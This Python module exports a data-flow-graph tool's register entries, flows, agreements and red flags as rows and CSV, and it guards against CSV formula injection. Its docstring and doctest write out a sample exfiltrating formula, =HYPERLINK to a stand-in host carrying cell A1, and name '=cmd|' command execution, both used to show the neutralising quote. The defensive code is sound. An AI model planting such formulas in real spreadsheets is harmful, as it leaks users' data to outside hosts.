"""The flat rows of every command, for tables and CSV: one dict per row, keys are columns.

Rows are what a spreadsheet user wants to read; the JSON documents
(:mod:`~dataflow_graph.outputs.documents`) keep every fact with its evidence.

**CSV for spreadsheets.**  Register text is untrusted, and a CSV file is opened in Excel or
LibreOffice, which run a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK(...)`` sends data away, ``=cmd|...`` runs a program), and a tab or carriage
return first can smuggle one in.  So every text cell written as CSV that starts with one of
:data:`FORMULA_STARTS` gets a single quote in front (the OWASP "CSV injection" advice):
spreadsheets then show it as text.  Numbers are written as they are.  ``raw=True``
(``--csv-raw``) writes the text unchanged, for pipelines that read the CSV as data.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

from ..errors import Diagnostics
from ..model import Entry, Flow, Organisation, Period
from .documents import HasDict, organisation_document

if TYPE_CHECKING:  # the flow graph (and networkx) only where rows need it: not for `dfg flows`
    from ..graph import (
        AgreementSummary,
        Convergence,
        FileFinding,
        FlowPath,
        Neighbour,
        OrganisationSummary,
        RedFlagReport,
        Side,
    )

__all__ = [
    "DIAGNOSTIC_COLUMNS",
    "FORMULA_STARTS",
    "Row",
    "agreement_rows",
    "converge_rows",
    "diagnostics_csv",
    "entries_rows",
    "eval_rows",
    "file_rows",
    "flows_rows",
    "neighbours_rows",
    "neutral_cell",
    "organisation_rows",
    "organisations_rows",
    "paths_rows",
    "redflag_rows",
    "rows_csv",
]

Row = dict[str, object]
#: Columns of ``--errors-csv`` (csvclean's idea: where, what, and the raw line).
DIAGNOSTIC_COLUMNS = ("path", "line", "col", "code", "severity", "message", "raw")


#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral_cell(text: str) -> str:
    """``text`` as a spreadsheet will show it, not run it: a quote before a formula start.

    >>> print(neutral_cell('=HYPERLINK("http://x.example/?"&A1,"click")'), neutral_cell("SUS"))
    '=HYPERLINK("http://x.example/?"&A1,"click") SUS
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def rows_csv(rows: Sequence[Row], *, raw: bool = False) -> str:
    """Rows as CSV with a header (lists joined with ``"; "``, None empty); nothing for no rows.

    Text cells that start like a formula are neutralised unless ``raw`` (see the module).

    >>> rows_csv([{"a": 1, "b": ["x", "y"]}, {"a": None, "b": ()}])
    'a,b\\n1,x; y\\n,\\n'
    >>> rows_csv([{"name": "=1+1", "n": -2}]), rows_csv([{"name": "=1+1"}], raw=True)
    ("name,n\\n'=1+1,-2\\n", 'name\\n=1+1\\n')
    """
    buf = io.StringIO()
    if rows:
        w = csv.writer(buf, lineterminator="\n")
        columns = list(rows[0])
        w.writerow([_csv_cell(k, raw) for k in columns])
        for row in rows:
            w.writerow([_csv_cell(row.get(k), raw) for k in columns])
    return buf.getvalue()


def _csv_cell(v: object, raw: bool) -> object:
    """One CSV cell: lists joined, None empty, formula starts neutralised unless ``raw``."""
    if isinstance(v, (list, tuple)):
        v = "; ".join(map(str, v))
    if v is None:
        return ""
    return neutral_cell(v) if isinstance(v, str) and not raw else v


def diagnostics_csv(diagnostics: Diagnostics, *, raw: bool = False) -> str:
    """Every diagnostic as a CSV row of :data:`DIAGNOSTIC_COLUMNS` (``\\r\\n`` line ends);
    text cells that start like a formula are neutralised unless ``raw``."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(DIAGNOSTIC_COLUMNS)
    for d in diagnostics:
        row = d.as_dict()
        w.writerow([_csv_cell(row[k], raw) for k in DIAGNOSTIC_COLUMNS])
    return buf.getvalue()


def _period_text(p: Period | None) -> str:
    if p is None:
        return ""
    return f"{p.start or '?'}..{p.end or '?'}"


def entries_rows(entries: Iterable[Entry]) -> list[Row]:
    """``dfg parse``: one row per entry with its header facts."""
    return [
        {
            "id": e.id,
            "reference": e.reference,
            "agreement": e.agreement,
            "title": e.title,
            "opt_outs": e.opt_outs.honoured.value,
            "period": _period_text(e.period),
            "dsa": _period_text(e.dsa),
            "legal_basis": "; ".join(e.legal_basis),
            "access": "; ".join(e.access),
            "families": " ".join(e.families),
            "type_of_data": e.type_of_data or "",
            "line": e.line,
        }
        for e in entries
    ]


def flows_rows(selected: Iterable[Flow]) -> list[Row]:
    """``dfg flows``: one row per flow, its path and evidence lines."""
    return [
        {
            "entry": f.entry.rsplit("/", 1)[-1],
            "reference": f.reference,
            "purpose": f.purpose,
            "kind": f.kind.value,
            "identifiability": f.identifiability.value,
            "families": " ".join(f.families),
            "path": " → ".join(f.path),
            "lines": " ".join(str(h.evidence.line) for h in f.hops),
        }
        for f in selected
    ]


def converge_rows(found: Iterable[Convergence | FileFinding]) -> list[Row]:
    """``dfg converge``: one row per finding (flows and files), its qualifiers' statements in one cell.

    Keys are the JSON document's; numbers stay numbers; each copy keeps its own label.
    """
    from ..graph import Convergence

    return [
        {
            "source": "flows" if isinstance(f, Convergence) else "releases",
            "recipient": f.recipient,
            "recipient_id": f.recipient_id,
            "family": f.family,
            "severity": f.severity,
            "severity_label": f.severity_label,
            "identifiable": _sides_text(f.identifiable) if isinstance(f, Convergence) else _files_text(f, True),
            "pseudonymised": _sides_text(f.pseudonymised) if isinstance(f, Convergence) else _files_text(f, False),
            "overlap": f"{f.overlap[0]}..{f.overlap[-1]}" if f.overlap else "",
            "opt_out_divergence": f.opt_out_divergence,
            "qualifiers": "; ".join(f"{q.name} {q.weight:+d}: {q.statement}" for q in f.qualifiers),
        }
        for f in found
    ]


def _sides_text(sides: Iterable[Side]) -> str:
    out = []
    for s in sides:
        f = s.flow
        period = f"{f.period.start}..{f.period.end}" if f.period else "?"
        opt = s.opt_outs_found.status.value if s.opt_outs_found else f.opt_outs.value
        out.append(
            f"{s.label} {f.reference} {period} opt-outs {opt} "
            f"via {' → '.join(s.path[1:-1]) or 'direct'} [line {s.hop.evidence.line}]"
        )
    return "\n".join(out)


def _files_text(f: FileFinding, identifiable: bool) -> str:
    fc = f.files
    rows = fc.identifiable if identifiable else fc.deidentified
    opts = fc.identifiable_opt_outs if identifiable else fc.deidentified_opt_outs
    return f"{len(rows)} files, opt-outs {', '.join(opts)} [rows {' '.join(str(r.line) for r in rows)}]"


def file_rows(found: Iterable[FileFinding]) -> list[Row]:
    """One row per finding in the released files."""
    return [
        {
            "recipient": f.recipient,
            "recipient_id": f.recipient_id,
            "family": f.family,
            "severity": f.severity,
            "period": f.files.period,
            "period_kind": f.files.period_kind,
            "identifiable_files": len(f.files.identifiable),
            "deidentified_files": len(f.files.deidentified),
            "opt_out_divergence": f.opt_out_divergence,
            "same_agreement": " ".join(f.same_agreement),
        }
        for f in found
    ]


def paths_rows(found: Iterable[FlowPath]) -> list[Row]:
    """``dfg paths``: one row per hop of every route."""
    return [
        {
            "entry": p.entry.rsplit("#", 1)[-1],
            "reference": p.reference,
            "purpose": p.purpose,
            "step": i,
            "from": h.source.name,
            "to": h.target.name,
            "identifiability": h.identifiability.value,
            "landing_only": h.landing_only,
            "evidence": f"{h.evidence.path}:{h.evidence.line}: {h.evidence.text[:160]}",
        }
        for p in found
        for i, h in enumerate(p.hops, 1)
    ]


def neighbours_rows(found: Iterable[Neighbour]) -> list[Row]:
    """``dfg upstream`` / ``dfg downstream``: one row per hop reaching each organisation."""
    return [
        {
            "distance": n.distance,
            "organisation": n.name,
            "role": n.role,
            "from": h.source.name,
            "to": h.target.name,
            "reference": f.reference,
            "purpose": f.purpose,
            "identifiability": h.identifiability.value,
            "families": " ".join(f.families),
            "line": h.evidence.line,
        }
        for n in found
        for f, h in n.hops
    ]


def redflag_rows(report: RedFlagReport) -> list[Row]:
    """``dfg redflags``: one row per red flag, with the lines of its file rows."""
    return [
        {
            "recipient": r.recipient,
            "recipient_id": r.recipient_id,
            "dataset": r.dataset,
            "period": r.period,
            "period_kind": r.period_kind,
            "files_applied": r.files_applied,
            "files_not_applied": r.files_not_applied,
            "rows": " ".join(str(x.line) for x in r.rows),
        }
        for r in report.redflags
    ]


def organisation_rows(summary: OrganisationSummary) -> list[Row]:
    """``dfg org``: one row per fact of the document, its value as JSON."""
    return [
        {"fact": k, "value": json.dumps(v, ensure_ascii=False, sort_keys=True)}
        for k, v in organisation_document(summary).items()
    ]


def agreement_rows(summary: AgreementSummary) -> list[Row]:
    """``dfg agreement`` (CSV): its entries, then its flows, then its released files, one row each."""
    rows: list[Row] = [
        {
            "part": "entry",
            "id": e.id,
            "reference": e.reference,
            "what": e.title,
            "period": _period_text(e.period),
            "opt_outs": e.opt_outs.honoured.value,
            "families": " ".join(e.families),
        }
        for e in summary.entries
    ]
    rows += [
        {
            "part": "flow",
            "id": f.id,
            "reference": f.reference,
            "what": f"{f.purpose}: {' → '.join(f.path)}",
            "period": _period_text(f.period),
            "opt_outs": f.opt_outs.value,
            "families": " ".join(f.families),
        }
        for f in summary.flows
    ]
    rows += [
        {
            "part": "released file",
            "id": r.row_id or r.id,
            "reference": r.reference,
            "what": f"{r.recipient.strip()}: {r.dataset.strip()} ({r.category})",
            "period": r.month or _period_text(r.period),
            "opt_outs": {True: "applied", False: "not applied", None: "unknown"}[r.opt_outs_applied],
            "families": r.family or "",
        }
        for r in summary.releases
    ]
    return rows


def organisations_rows(found: Iterable[Organisation]) -> list[Row]:
    """``dfg orgs``: one row per organisation, with what it can be called."""
    return [
        {
            "name": o.name,
            "id": o.id,
            "role": o.role.value,
            "ods": o.ods or "",
            "reviewed": o.reviewed,
            "aliases": "; ".join(a for a in o.aliases if a != o.name),
        }
        for o in found
    ]


def eval_rows(score: HasDict) -> list[Row]:
    """``dfg eval``: the misses, optional misses and extras, one edge per row."""
    doc = score.as_dict()
    rows: list[Row] = []
    for what, key in (("miss", "misses"), ("optional miss", "optional_misses"), ("extra", "extras")):
        edges = doc[key]
        assert isinstance(edges, list)
        rows += [{"what": what, **edge} for edge in edges]
    return rows
